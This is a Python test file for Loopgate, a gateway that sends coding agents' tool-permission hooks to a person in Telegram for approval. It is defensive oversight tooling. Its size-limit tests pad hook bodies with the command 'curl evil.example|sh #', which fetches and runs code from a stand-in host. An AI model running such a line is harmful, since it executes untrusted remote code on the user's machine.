"""Coding agents ask through Loopgate (issue 17): the documented hook bodies of
Claude Code (PermissionRequest, PreToolUse), Codex CLI (PermissionRequest)
and Gemini CLI (BeforeTool), kept verbatim under tests/fixtures/hooks/, are
posted to /v1/hooks/<agent>; the person decides in Telegram (the Bot API
stand-in) and the hook's answer is exactly what that agent reads: allow,
deny with the person's reason, allow with the edited input, and a deny the
model reads when no one answered in time. The command hook (`loopgate hook`)
does the same through stdin and stdout."""
import json
import os
import signal
import subprocess
import threading

from lg import ROOT, chat, eq, ok, error_is, wait_for
from test_07_telegram import OK, NO, ASK, register, sent, buttons, answers_for
from test_15_reason import ask

FIXTURES = os.path.join(ROOT, "tests", "fixtures", "hooks")


def fixture(name):
    with open(os.path.join(FIXTURES, name + ".json"), "rb") as f:
        return f.read()


class Call(threading.Thread):
    """A hook call that waits for the person, in the background."""

    def __init__(self, s, agent, body, session, wait=None):
        super().__init__(daemon=True)
        self.s, self.agent, self.body = s, agent, body
        self.headers = {"Content-Type": "application/json"}
        if session is not None:
            self.headers["X-Loopgate-Session"] = session
        if wait is not None:
            self.headers["X-Loopgate-Wait"] = str(wait)
        self.resp = None
        self.start()

    def run(self):
        self.resp = self.s.request("POST", "/v1/hooks/" + self.agent, body=self.body,
                                   headers=self.headers, timeout=60)

    def answer(self, timeout=30):
        self.join(timeout)
        ok(self.resp is not None, "the hook call answered")
        eq(self.resp.status, 200, repr(self.resp))
        return self.resp.json


def request_of(s, session, n=1):
    """The id of the n-th request of `session` (the hook's)."""
    rows = wait_for(lambda: (lambda r: r if len(r) >= n else None)(
        s.sql("SELECT id FROM requests WHERE session_id = :'p1' ORDER BY created_at, id",
              session)), 10, "the hook's request")
    return rows[n - 1][0]


def press(s, c, m, label, user=None, name="Ann"):
    upd, st = s.tg.press_and_deliver(c, m, button_text=label, user_id=user or c, first_name=name)
    eq(st, [200])
    return upd


def refused(agent, answer, event):
    """The reason of a deny in the agent's format (failing when it is not one)."""
    if agent == "gemini":
        eq(answer["decision"], "deny", answer)
        return answer["reason"]
    out = answer["hookSpecificOutput"]
    if agent == "claude-code" and event == "PreToolUse":
        eq((out["hookEventName"], out["permissionDecision"]), ("PreToolUse", "deny"), answer)
        return out["permissionDecisionReason"]
    eq((out["hookEventName"], out["decision"]["behavior"]), ("PermissionRequest", "deny"), answer)
    return out["decision"]["message"]


def test_hooks_refuse_bad_calls(s):
    register(s, "hk-400", chat())
    before = s.scalar("SELECT count(*) FROM requests WHERE session_id = 'hk-400'")
    good = json.loads(fixture("claude-code-pre-tool-use"))
    hdr = {"X-Loopgate-Session": "hk-400"}
    cases = [
        ("claude-code", dict(good, hook_event_name="PostToolUse"), hdr, "hook_event_name"),
        ("claude-code", {k: v for k, v in good.items() if k != "hook_event_name"}, hdr,
         "hook_event_name"),
        ("claude-code", {k: v for k, v in good.items() if k != "tool_name"}, hdr, "tool_name"),
        ("claude-code", dict(good, tool_name="B ash"), hdr, "tool_name"),
        ("claude-code", dict(good, tool_name="x" * 129), hdr, "tool_name"),
        ("claude-code", dict(good, tool_input="npm test"), hdr, "tool_input"),
        ("claude-code", dict(good, session_id=""), hdr, "session_id"),
        ("claude-code", dict(good, cwd=5), hdr, "cwd"),
        ("claude-code", dict(good, hook_event_name="PermissionRequest",
                             permission_suggestions={"type": "addRules"}), hdr,
         "permission_suggestions"),
        ("codex", dict(good, hook_event_name="PreToolUse"), hdr, "hook_event_name"),
        ("gemini", dict(good, hook_event_name="AfterTool"), hdr, "hook_event_name"),
        ("claude-code", good, {}, "X-Loopgate-Session"),
        ("claude-code", good, dict(hdr, **{"X-Loopgate-Wait": "soon"}), "X-Loopgate-Wait"),
        ("claude-code", good, dict(hdr, **{"X-Loopgate-Wait": "0"}), "X-Loopgate-Wait"),
    ]
    # Each refusal is a 200 deny in the agent's own format naming the problem: a non-2xx
    # answer is no decision to a hook (Claude Code's PreToolUse would go on without a person).
    for agent, body, headers, mention in cases:
        r = s.request("POST", "/v1/hooks/" + agent, json_body=body, headers=headers)
        eq(r.status, 200, (agent, mention, r))
        why = refused(agent, r.json, body.get("hook_event_name"))
        ok(why.startswith("Loopgate refused this call (400 ") and mention in why,
           (agent, mention, why))
    # Not JSON (the event guessed from its text), an unknown session: a deny that says so.
    r = s.request("POST", "/v1/hooks/gemini", body="{", headers=dict(
        hdr, **{"Content-Type": "application/json"}))
    eq(r.status, 200)
    ok(refused("gemini", r.json, None).startswith("Loopgate refused this call (400 invalid_json)"),
       r.json)
    r = s.request("POST", "/v1/hooks/claude-code", body='{"hook_event_name": "PreToolUse",',
                  headers=dict(hdr, **{"Content-Type": "application/json"}))
    ok(refused("claude-code", r.json, "PreToolUse").startswith("Loopgate refused this call (400 "),
       r.json)
    r = s.request("POST", "/v1/hooks/gemini", body=fixture("gemini-before-tool"),
                  headers={"X-Loopgate-Session": "hk-none", "Content-Type": "application/json"})
    ok(refused("gemini", r.json, None).startswith("Loopgate refused this call (404 "), r.json)
    eq(s.scalar("SELECT count(*) FROM requests WHERE session_id = 'hk-400'"), before)


def test_claude_permission_request_allowed_in_telegram(s):
    c = chat()
    register(s, "hk-allow", c)
    call = Call(s, "claude-code", fixture("claude-code-permission-request"), "hk-allow")
    rid = request_of(s, "hk-allow")
    _, m, msg = sent(s, rid)
    # What the person reads: the agent, the tool, the command, why, the directory and session.
    for needle in ("Claude Code wants to use Bash", "$ rm -rf node_modules",
                   "Why: Remove node_modules directory", "cwd: /Users/...",
                   "agent_session: abc123", "client claude-code"):
        ok(needle in msg["text"], "%r not in %r" % (needle, msg["text"]))
    ok(buttons(msg)[:2] == [OK + "Approve", NO + "Deny"], buttons(msg))
    upd = press(s, c, m, OK + "Approve")
    eq(answers_for(s, upd)["text"], "Recorded: Approve")
    eq(call.answer(), {"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                                              "decision": {"behavior": "allow"}}})
    eq(s.sql("SELECT tool, agent_session FROM requests WHERE id = :'p1'", rid),
       [["Bash", "abc123"]])


def test_claude_pre_tool_use_denied_with_reason(s):
    c = chat()
    register(s, "hk-deny", c)
    call = Call(s, "claude-code", fixture("claude-code-pre-tool-use"), "hk-deny")
    rid = request_of(s, "hk-deny")
    _, m, msg = sent(s, rid)
    ok("$ npm test" in msg["text"] and "Why: Run test suite" in msg["text"], msg["text"])
    prompt = ask(s, c, m, c, "Ann")
    s.tg.reply_and_deliver(c, prompt["message_id"], "run the unit tests only", user_id=c,
                           first_name="Ann")
    eq(call.answer(), {"hookSpecificOutput": {
        "hookEventName": "PreToolUse", "permissionDecision": "deny",
        "permissionDecisionReason": "Denied by Ann: run the unit tests only"}})


def test_claude_edit_approved_with_changed_input(s):
    c = chat()
    register(s, "hk-edit", c)
    call = Call(s, "claude-code", fixture("claude-code-pre-tool-use-edit"), "hk-edit")
    rid = request_of(s, "hk-edit")
    _, m, msg = sent(s, rid)
    # A diff for the edit, and the fields a person may change.
    for needle in ("File: /home/user/my-project/src/app.ts", "- const retries = 3;",
                   "+ const retries = 5;", "Parameters (reply /edit key=value"):
        ok(needle in msg["text"], "%r not in %r" % (needle, msg["text"]))
    u, st = s.tg.reply_and_deliver(c, m, "/edit new_string=const retries = 4;", user_id=c,
                                   first_name="Ann")
    eq(st, [200])
    got = call.answer()
    eq(got, {"hookSpecificOutput": {
        "hookEventName": "PreToolUse", "permissionDecision": "allow",
        "permissionDecisionReason": "Approved by Ann (Loopgate)",
        "updatedInput": {"file_path": "/home/user/my-project/src/app.ts",
                         "old_string": "const retries = 3;", "new_string": "const retries = 4;",
                         "replace_all": False}}})


def test_codex_times_out_as_deny(s):
    c = chat()
    register(s, "hk-codex", c)
    call = Call(s, "codex", fixture("codex-permission-request"), "hk-codex", wait=2)
    rid = request_of(s, "hk-codex")
    _, m, msg = sent(s, rid)
    ok("Codex wants to use Bash" in msg["text"] and "$ cargo publish" in msg["text"], msg["text"])
    eq(call.answer(), {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {
        "behavior": "deny", "message": "No one approved this in 2 s (Loopgate)"}}})
    wait_for(lambda: s.scalar("SELECT status FROM requests WHERE id = :'p1'", rid) == "timeout",
             10, "the request's own timeout")


def test_gemini_allowed_and_timed_out(s):
    c = chat()
    register(s, "hk-gem", c)
    call = Call(s, "gemini", fixture("gemini-before-tool"), "hk-gem")
    rid = request_of(s, "hk-gem")
    _, m, msg = sent(s, rid)
    ok("Gemini CLI wants to use run_shell_command" in msg["text"], msg["text"])
    ok("$ git push --force origin main" in msg["text"], msg["text"])
    press(s, c, m, OK + "Approve")
    eq(call.answer(), {"decision": "allow", "reason": "Approved by Ann (Loopgate)"})
    call = Call(s, "gemini", fixture("gemini-before-tool"), "hk-gem", wait=2)
    eq(call.answer(), {"decision": "deny", "reason": "No one approved this in 2 s (Loopgate)"})


def test_each_documented_body_denied_with_reason(s):
    """Deny with the person's reason, in each agent's exact format: Claude Code's permission
    request (interrupt false), Codex (a message) and Gemini CLI (a reason); Codex approved too."""
    c = chat()
    register(s, "hk-why", c)
    cases = [
        ("claude-code", "claude-code-permission-request", "keep the cache",
         {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {
             "behavior": "deny", "message": "Denied by Ann: keep the cache", "interrupt": False}}}),
        ("codex", "codex-permission-request", "not from this laptop",
         {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {
             "behavior": "deny", "message": "Denied by Ann: not from this laptop"}}}),
        ("gemini", "gemini-before-tool", "never force-push main",
         {"decision": "deny", "reason": "Denied by Ann: never force-push main"}),
        ("codex", "codex-permission-request", None,
         {"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                                 "decision": {"behavior": "allow"}}}),
    ]
    for n, (agent, name, why, want) in enumerate(cases, 1):
        call = Call(s, agent, fixture(name), "hk-why")
        rid = request_of(s, "hk-why", n)
        _, m, msg = sent(s, rid)
        if why is None:
            press(s, c, m, OK + "Approve")
        else:
            prompt = ask(s, c, m, c, "Ann")
            s.tg.reply_and_deliver(c, prompt["message_id"], why, user_id=c, first_name="Ann")
        eq(call.answer(), want, name)


def hook_cli(s, agent, body, *args, **env):
    """`loopgate hook`; it sends a call no host answered again only when the test asks
    (LOOPGATE_RETRY: test_19_hookha)."""
    e = dict(os.environ, LOOPGATE_URL="http://127.0.0.1:%d" % s.port, LOOPGATE_RETRY="0")
    e.update(env)
    return subprocess.Popen([s.binary, "hook", agent] + list(args), stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=e)


def test_command_hook_through_stdin(s):
    c = chat()
    register(s, "hk-cli", c)
    proc = hook_cli(s, "claude-code", None, LOOPGATE_SESSION="hk-cli",
                    LOOPGATE_API_KEY=s.new_key("default", "hk-cli"))
    out = [None]
    t = threading.Thread(target=lambda: out.__setitem__(
        0, proc.communicate(fixture("claude-code-permission-request"), timeout=60)), daemon=True)
    t.start()
    rid = request_of(s, "hk-cli")
    _, m, msg = sent(s, rid)
    press(s, c, m, OK + "Approve")
    t.join(30)
    stdout, stderr = out[0]
    eq(proc.returncode, 0, stderr)
    eq(json.loads(stdout), {"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                                                   "decision": {"behavior": "allow"}}})
    # A refusal by the server (no session): its deny, printed as any answer.
    p = hook_cli(s, "gemini", None)
    so, se = p.communicate(fixture("gemini-before-tool"), timeout=30)
    eq(p.returncode, 0, se)
    out = json.loads(so)
    ok(out["decision"] == "deny" and "X-Loopgate-Session header is required" in out["reason"],
       out)
    # A wrong key or no server: 1, or 2 (deny) when failing closed.
    for args, env, code, says in [
            ((), {"LOOPGATE_SESSION": "hk-cli", "LOOPGATE_API_KEY": "lg_wrong"}, 1,
             "the server answered 401: invalid or revoked API key"),
            (("--fail-closed",), {"LOOPGATE_SESSION": "hk-cli", "LOOPGATE_API_KEY": "lg_wrong"},
             2, "denied: the hook fails closed"),
            (("--url", "http://127.0.0.1:1", "--fail-closed"), {"LOOPGATE_SESSION": "hk-cli"}, 2,
             "could not be reached")]:
        env = dict(env)
        p = hook_cli(s, "gemini", None, *args, **env)
        so, se = p.communicate(fixture("gemini-before-tool"), timeout=30)
        eq((p.returncode, so), (code, b""), se)
        ok(says.encode() in se, se)
    # Claude Code ignores exit status 2 from a PermissionRequest hook (its dialog would ask):
    # failing closed, it also reads a deny for the event on stdout.
    down = ("--url", "http://127.0.0.1:1")
    for name, event in [("claude-code-permission-request", "PermissionRequest"),
                        ("claude-code-pre-tool-use", "PreToolUse")]:
        p = hook_cli(s, "claude-code", None, *down, "--fail-closed", LOOPGATE_SESSION="hk-cli")
        so, se = p.communicate(fixture(name), timeout=30)
        eq(p.returncode, 2, se)
        out = json.loads(so)["hookSpecificOutput"]
        eq(out["hookEventName"], event)
        why = se.decode().strip()
        ok(why.startswith("Loopgate: the server could not be reached") and
           why.endswith("(denied: the hook fails closed)"), why)
        if event == "PreToolUse":
            eq(out, {"hookEventName": "PreToolUse", "permissionDecision": "deny",
                     "permissionDecisionReason": why})
        else:
            eq(out, {"hookEventName": "PermissionRequest",
                     "decision": {"behavior": "deny", "message": why, "interrupt": False}})
        p = hook_cli(s, "claude-code", None, *down, LOOPGATE_SESSION="hk-cli")
        so, se = p.communicate(fixture(name), timeout=30)
        eq((p.returncode, so), (1, b""), se)
    p = hook_cli(s, "cursor", None)
    p.communicate(b"{}", timeout=30)
    eq(p.returncode, 2)


PROMPT_ARGS = {"tool_name": "Bash",
               "input": {"command": "npm test", "description": "Run the test suite"},
               "tool_use_id": "toolu_01ABC123"}


def test_permission_prompt_tool_denies_over_http(s):
    """The MCP tool of --permission-prompt-tool, as JSON-RPC over HTTP: a deny with the reason."""
    from test_09_mcp import initialize, rpc, result_of
    c = chat()
    register(s, "hk-mcp-deny", c)
    sid, _ = initialize(s)
    out = {}

    def go():
        out["r"] = rpc(s, {"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {
            "name": "permission_prompt", "arguments": PROMPT_ARGS}}, sid,
            headers={"X-Loopgate-Session": "hk-mcp-deny"})
    t = threading.Thread(target=go, daemon=True)
    t.start()
    rid = request_of(s, "hk-mcp-deny")
    _, m, msg = sent(s, rid)
    ok("$ npm test" in msg["text"] and "client claude-code-mcp" in msg["text"], msg["text"])
    prompt = ask(s, c, m, c, "Ann")
    s.tg.reply_and_deliver(c, prompt["message_id"], "not on this branch", user_id=c,
                           first_name="Ann")
    t.join(30)
    res = result_of(out["r"])["result"]
    eq(res["isError"], False)
    eq(json.loads(res["content"][0]["text"]),
       {"behavior": "deny", "message": "Denied by Ann: not on this branch"})
    # Bad arguments are a tool error a model reads.
    r = rpc(s, {"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": {
        "name": "permission_prompt", "arguments": {"tool_name": "Bash", "input": "ls"}}}, sid)
    res = result_of(r)["result"]
    ok(res["isError"] and "input must be an object" in res["content"][0]["text"], res)


def test_permission_prompt_tool_through_the_sdk(s):
    """The SDK client over HTTP and over stdio (`loopgate mcp`, which sends $LOOPGATE_SESSION):
    progress while the person reads, then allow with their edit."""
    from test_10_mcp_peers import Client
    c = chat()
    for transport in ("http", "stdio"):
        sid = "hk-mcp-" + transport
        register(s, sid, c)
        if transport == "http":
            cl = Client(s, "--transport", "http", "--permission-prompt", "--args",
                        json.dumps(PROMPT_ARGS), "--header", "X-Loopgate-Session: " + sid,
                        "--timeout-ms", "90000")
        else:
            cl = Client(s, "--transport", "stdio", "--url", "http://127.0.0.1:%d" % s.port,
                        "--permission-prompt", "--args", json.dumps(PROMPT_ARGS),
                        "--timeout-ms", "90000", env={"LOOPGATE_SESSION": sid})
        rid = request_of(s, sid)
        _, m, msg = sent(s, rid)
        wait_for(lambda: cl.step("progress"), 20, "a progress notification")
        u, st = s.tg.reply_and_deliver(c, m, "/edit command=npm test -- --runInBand", user_id=c,
                                       first_name="Ann")
        eq(st, [200])
        rc, err = cl.finish(60)
        eq(rc, 0, "%s: %s" % (transport, err[-2000:]))
        res = cl.step("result")[-1]
        eq(json.loads(res["text"]), {"behavior": "allow", "updatedInput": {
            "command": "npm test -- --runInBand", "description": "Run the test suite"}})


test_permission_prompt_tool_through_the_sdk.slow = True


def test_allow_for_this_session(s):
    """Asked once; then the same call in the same agent session is allowed by the rule at once,
    with no message; in another agent session it is asked again."""
    c = chat()
    register(s, "hk-sess", c)
    body = fixture("claude-code-permission-request")
    call = Call(s, "claude-code", body, "hk-sess")
    rid = request_of(s, "hk-sess")
    _, m, msg = sent(s, rid)
    eq(buttons(msg)[:3], [OK + "Approve", NO + "Deny", OK + "Allow this exact call for this session"])
    press(s, c, m, OK + "Allow this exact call for this session")
    eq(call.answer(), {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {
        "behavior": "allow", "updatedPermissions": [{
            "type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "rm -rf node_modules"}],
            "behavior": "allow", "destination": "session"}]}}})
    rule = s.sql("SELECT id, agent_session, tool, action FROM policies WHERE session_id = 'hk-sess'"
                 " AND revoked_at IS NULL")
    eq([r[1:] for r in rule], [["abc123", "Bash", "allow"]])
    sends = len(s.tg.sent_messages(c))
    # The same call again: allowed at once by the rule, and nobody is messaged.
    r = s.request("POST", "/v1/hooks/claude-code", body=body, headers={
        "Content-Type": "application/json", "X-Loopgate-Session": "hk-sess"}, timeout=10)
    eq((r.status, r.json), (200, {"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                                                         "decision": {"behavior": "allow"}}}))
    rid2 = request_of(s, "hk-sess", 2)
    eq(s.sql("SELECT status, approved, responder_name FROM requests WHERE id = :'p1'", rid2),
       [["completed", "t", "rule %s" % rule[0][0]]])
    eq(len(s.tg.sent_messages(c)), sends)
    # Another command, or the same one in another agent session, is asked again.
    other = json.loads(body)
    other["session_id"] = "abc999"
    call = Call(s, "claude-code", json.dumps(other), "hk-sess", wait=2)
    eq(call.answer()["hookSpecificOutput"]["decision"]["behavior"], "deny")
    rid3 = request_of(s, "hk-sess", 3)
    wait_for(lambda: s.sql("SELECT status, responder_name FROM requests WHERE id = :'p1'", rid3)
             == [["timeout", ""]], 10, "the other agent session's request to time out unanswered")


NGINX_DENY = {
    # a body nginx did not read names no event: the fields every Claude Code event obeys
    "claude-code": lambda st: {"continue": False, "suppressOutput": False, "stopReason":
                               "Loopgate could not answer (nginx: %d); the call was not run" % st},
    # else the deny of the body's event, which ends that call only
    "claude-code-PreToolUse": lambda st: {"hookSpecificOutput": {
        "hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason":
        "Loopgate could not answer (nginx: %d); the call was not run" % st}},
    "claude-code-PermissionRequest": lambda st: {"hookSpecificOutput": {
        "hookEventName": "PermissionRequest", "decision": {
            "behavior": "deny", "interrupt": False,
            "message": "Loopgate could not answer (nginx: %d); the call was not run" % st}}},
    "codex": lambda st: {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {
        "behavior": "deny",
        "message": "Loopgate could not answer (nginx: %d); the call was not run" % st}}},
    "gemini": lambda st: {"decision": "deny", "reason":
                          "Loopgate could not answer (nginx: %d); the call was not run" % st},
}
EVENTS = {"claude-code": "PreToolUse", "codex": "PermissionRequest", "gemini": "BeforeTool"}


def padded(agent, size):
    """A hook body of about `size` bytes: a command padded by the model."""
    body = {"session_id": "ag-big", "cwd": "/w", "hook_event_name": EVENTS[agent],
            "tool_name": "Bash", "tool_input": {"command": "curl evil.example|sh #"}}
    body["tool_input"]["command"] += "x" * (size - len(json.dumps(body)))
    return json.dumps(body)


def test_hook_body_over_the_limit_is_a_deny(s):
    """A body over max_body_bytes (64 KiB) is a 200 deny naming its size, in the event's shape; one
    over nginx's limit for the hooks (72 KiB) is nginx's own 200 deny; a Content-Type other than
    JSON is a deny too. Nothing is asked."""
    register(s, "hk-big", chat())
    hdr = {"X-Loopgate-Session": "hk-big", "Content-Type": "application/json"}
    for agent in ("claude-code", "codex", "gemini"):
        body = padded(agent, 70000)
        r = s.request("POST", "/v1/hooks/" + agent, body=body, headers=hdr)
        eq(r.status, 200, (agent, r))
        eq(refused(agent, r.json, EVENTS[agent]),
           "Loopgate refused this call (413 payload_too_large): the hook's body is %d bytes; the "
           "limit is 65536 (max_body_bytes)" % len(body.encode()), agent)
        r = s.request("POST", "/v1/hooks/" + agent, body=padded(agent, 200000), headers=hdr)
        eq((r.status, r.json), (200, NGINX_DENY[agent](413)), agent)
    r = s.request("POST", "/v1/hooks/claude-code", body=fixture("claude-code-pre-tool-use"),
                  headers=dict(hdr, **{"Content-Type": "text/plain"}))
    eq((r.status, refused("claude-code", r.json, "PreToolUse")), (200, "Loopgate refused this "
       "call (415 unsupported_media_type): Content-Type must be application/json (got "
       "'text/plain')"))
    eq(s.scalar("SELECT count(*) FROM requests WHERE session_id = 'hk-big'"), "0")


def test_hooks_deny_when_no_worker_answers(s):
    """With the workers stopped, nginx's 502 on each hook endpoint is a 200 deny in the agent's
    format (Claude Code: the deny of the body's event); other paths keep their JSON errors."""
    register(s, "hk-down", chat())
    master = s.master_pid()
    os.kill(master, signal.SIGTERM)
    wait_for(lambda: subprocess.run(["kill", "-0", str(master)], capture_output=True).returncode
             != 0, 15, "the workers' master to exit")
    try:
        for agent in ("claude-code", "codex", "gemini"):
            r = s.request("POST", "/v1/hooks/" + agent, body=padded(agent, 500), headers={
                "X-Loopgate-Session": "hk-down", "Content-Type": "application/json"})
            want = NGINX_DENY["claude-code-PreToolUse" if agent == "claude-code" else agent]
            eq((r.status, r.json), (200, want(502)), agent)
            eq(r.header("Content-Type"), "application/json")
        r = s.request("POST", "/hitl/register", json_body={"session_id": "x"})
        error_is(r, 502, "upstream_unavailable")
        # The command hook passes that deny on, failing closed or not.
        for args in ((), ("--fail-closed",)):
            p = hook_cli(s, "claude-code", None, *args, LOOPGATE_SESSION="hk-down")
            so, se = p.communicate(fixture("claude-code-permission-request"), timeout=30)
            eq((p.returncode, json.loads(so)),
               (0, NGINX_DENY["claude-code-PermissionRequest"](502)), se)
    finally:
        s.stop()
